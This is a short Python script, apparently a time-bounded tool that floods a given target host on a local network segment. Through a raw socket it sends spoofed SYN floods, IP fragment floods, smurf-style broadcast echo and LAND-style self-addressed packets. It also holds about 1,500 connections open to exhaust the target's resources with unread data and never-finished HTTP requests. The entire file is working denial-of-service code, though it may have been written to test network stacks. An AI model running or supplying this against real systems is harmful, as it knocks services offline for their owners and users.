"""What the protocol texts warn of, all at once and bounded: seven seconds of it.

    fire.py INTERFACE TARGET MAC

SYNs and fragments from everywhere on the link, datagrams from the target to itself, echo to the
broadcast address, and connections that never read or promise what never comes.
"""

import os
import random
import resource
import socket
import struct
import sys
import time

from checksums import checksum

interface, target, mac = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3].replace(":", ""))
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
address = socket.inet_aton(target)
rng = random.Random(7)


def datagram(protocol, payload, source, destination=address, identification=0, fragment=0, machine=mac):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), identification, fragment, 64, protocol, 0, source, destination)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    try:
        raw.send(machine + b"\x02\0\0\0\0\x99" + b"\x08\x00" + header + payload)
    except OSError:
        pass


def syn(source, port):
    header = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.randrange(1 << 32), 0, 0x60, 2, 65535, 0, 0) + b"\x02\x04\x05\xb4"
    total = checksum(source + address + struct.pack("!HH", 6, len(header)) + header)
    datagram(6, header[:16] + struct.pack("!H", total) + header[18:], source)


# Real connections of this host's kernel: some never read what comes back, some never end their request.
kept = []
for number in range(1500):
    stream = socket.socket()
    stream.setblocking(False)
    try:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stream.connect((target, 7 if number % 3 else 80))
    except BlockingIOError:
        pass
    kept.append((number, stream))
    if number % 50 == 0:
        time.sleep(0.01)
end = time.monotonic() + 7
rounds = 0
while time.monotonic() < end:
    for number, stream in kept:
        try:
            if number % 3:
                stream.send(b"x" * 65536)
            elif rounds == 0:
                stream.send(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n")
            else:
                stream.send(b"GET / HTTP/1.1\r\n" if number % 2 else b"A" * 20000)
        except OSError:
            pass
    for _ in range(3000):
        source = bytes((192, 0, 2, rng.randrange(60, 250)))
        kind = rng.randrange(6)
        if kind < 3:
            syn(source, rng.choice((7, 80, 9)))
        elif kind == 3:
            datagram(17, b"f" * 1400, source, identification=rng.randrange(65536), fragment=0x2000 | rng.randrange(0, 8000))
        elif kind == 4:
            datagram(1, b"\x08\0\xf7\xff\0\0\0\0", source, bytes((192, 0, 2, 255)), machine=b"\xff" * 6)
        else:
            datagram(1, b"\x08\0\xf7\xff\0\0\0\0", address)
    rounds += 1
print(f"{rounds} rounds")
